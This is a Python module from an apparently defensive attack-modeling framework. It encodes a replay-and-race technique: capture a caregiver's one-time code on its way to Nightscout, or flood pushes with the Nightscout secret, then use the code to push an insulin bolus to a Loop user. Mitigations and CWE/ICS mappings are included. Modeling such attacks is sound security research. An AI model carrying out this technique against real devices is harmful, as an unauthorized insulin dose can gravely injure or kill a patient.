"""Outrun a command: use a caregiver's one-time code before his own command does.

A code counts once, for whoever comes first. A command that goes by Nightscout takes one way more
than a push that goes straight to the push service: whoever sees it leave, and may push, is ahead of
it. One that a caregiver pushes himself cannot be outrun like this. Who has the Nightscout secret
alone uses up what the push service takes (`flood_push.py`) until the command has come to nothing
and its code is left. Read, not run.
"""

from __future__ import annotations

from collections.abc import Generator

from banting.attacks.app_sources import LOOP_OTP, LOOP_PUSH, NIGHTSCOUT_PUSH
from banting.attacks.cloud_aims import asked_in_words, bolus
from banting.attacks.cloud_talk import NIGHTSCOUT, PUSH, ask_service
from banting.attacks.flood_push import FLOOD_LASTS_MIN, FLOOD_PER_MIN, NOBODYS_PRESET
from banting.errors import TechniqueFailed
from banting.interfaces import Action, Grip, Listen, Program, Service, Transmit, Wait
from banting.schema.effects import Frame
from banting.schema.facts import Fact, Rule, goal_fact
from banting.schema.intents import Heard, RemoteOverride
from banting.schema.question import Goal
from banting.schema.verdict import TechniqueShown
from banting.units import MS_PER_MIN, MS_PER_S

__all__ = ["OUTRUN_COMMAND", "OutrunCommand"]

_ID = "outrun-command"
_SEEN = frozenset(
    {
        Fact("reach.internet"),
        Fact("push.delivers"),
        Fact("assume.otp-code-seen"),
        Fact("caregiver.in-use"),
        Fact("caregiver.holds-api-secret"),
        Fact("caregiver.holds-otp-secret"),
        Fact("loop.takes-dose-push"),
    }
)
_BY_PUSH = frozenset({Fact("knows.push-key"), Fact("knows.device-token")})
_BY_SITE = frozenset(
    {
        Fact("knows.api-secret"),
        Fact("nightscout.sends-push"),
        Fact("loop.uploads-device"),
    }
)
_EVERY_MS = MS_PER_MIN // FLOOD_PER_MIN
_TRIES, _AGAIN_MS = 12, 2 * MS_PER_S  # while the code lives


class OutrunCommand:
    """A push with a code that was seen under way."""

    shown = TechniqueShown(
        id=_ID,
        title="Outrun a remote command",
        what="someone who sees a caregiver's remote command leave for Nightscout, and may push, "
        "pushes a command of his own with its one-time code, which is there first",
        stop_it="revoke a push key that anyone else may have seen; type one-time codes where "
        "nobody sees them",
        cwe=("CWE-294", "CWE-367"),
        cve=(),
        emb3d=("TID-407", "TID-221"),
        attack_ics=("T0855", "T0859"),
        sources=(LOOP_OTP, LOOP_PUSH, NIGHTSCOUT_PUSH),
    )
    rules: tuple[Rule, ...] = (
        Rule(
            id="outrun-loop-G1",
            technique=_ID,
            needs=_SEEN | _BY_PUSH,
            gives=goal_fact(Goal.G1),
            says="push a bolus with the code of a caregiver's command, before that command comes",
        ),
        Rule(
            id="outrun-cloud-G1",
            technique=_ID,
            needs=_SEEN | _BY_SITE,
            gives=goal_fact(Goal.G1),
            says="with the Nightscout secret, flood the pushes until a caregiver's command is "
            "refused, then let Nightscout push a bolus with its code",
        ),
    )

    def perform(self, rule: Rule, grip: Grip) -> Program:
        """Wait for the caregiver's command, and be there first with its code."""
        if rule.needs >= _BY_SITE:
            return (yield from _by_site(grip))
        held = {name: grip.knows(name) for name in ("push-key", "device-token")}
        code = yield from _code(grip)
        grip.learn("otp-code", code)
        wanted = bolus(grip)
        yield from ask_service(grip, PUSH, wanted, {**held, "otp-code": code})
        return f"pushed with the code of the caregiver's command: {asked_in_words(wanted)}"


def _by_site(grip: Grip) -> Program:
    """Keep the pushes used up until a command with its code comes by, then use the code."""
    held, site = {"api-secret": grip.knows("api-secret")}, grip.service(NIGHTSCOUT)
    nothing = {**held, "preset": NOBODYS_PRESET}
    yield Wait(until_ms=grip.strike_ms)
    yield from ask_service(grip, NIGHTSCOUT, RemoteOverride(minutes=1), nothing)
    for _ in range(FLOOD_LASTS_MIN * FLOOD_PER_MIN):
        push = site.ask(RemoteOverride(minutes=1), nothing, grip.now_ms)
        next_ms = grip.now_ms + _EVERY_MS
        frame: Frame | None = yield Transmit(link=site.link, exchange=push)
        while frame is not None:
            code = _seen(site, frame)
            if code is not None:
                grip.learn("otp-code", code)
                return (yield from _use(grip, {**held, "otp-code": code}))
            frame = yield Listen(link=site.link, until_ms=next_ms)
    raise TechniqueFailed("no remote command with a one-time code was seen")


def _use(grip: Grip, held: dict[str, bytes]) -> Program:
    """Ask for a bolus with a code until the push service takes it again."""
    site, wanted = grip.service(NIGHTSCOUT), bolus(grip)
    for _ in range(_TRIES):
        yield Wait(until_ms=grip.now_ms + _AGAIN_MS)
        asked = site.ask(wanted, held, grip.now_ms)
        answer = yield Transmit(link=site.link, exchange=asked)
        if answer is not None and site.meaning(asked, answer.raw) is Heard.ACCEPTED:
            return f"Nightscout pushed with the caregiver's code: {asked_in_words(wanted)}"
    raise TechniqueFailed("the push service took nothing while the code lived")


def _seen(service: Service, frame: Frame) -> bytes | None:
    """Return the one-time code in a caregiver's command to the site."""
    if frame.to != service.host:
        return None
    return dict(service.secrets_in(frame.raw)).get("otp-code")


def _code(grip: Grip) -> Generator[Action, Frame | None, bytes]:
    """Return the one-time code in the first command seen on its way to Nightscout."""
    service = grip.service(NIGHTSCOUT)
    while True:
        frame = yield Listen(link=service.link, until_ms=grip.until_ms)
        if frame is None:
            raise TechniqueFailed("no remote command with a one-time code was seen")
        found = _seen(service, frame)
        if found is not None:
            return found


OUTRUN_COMMAND = OutrunCommand()
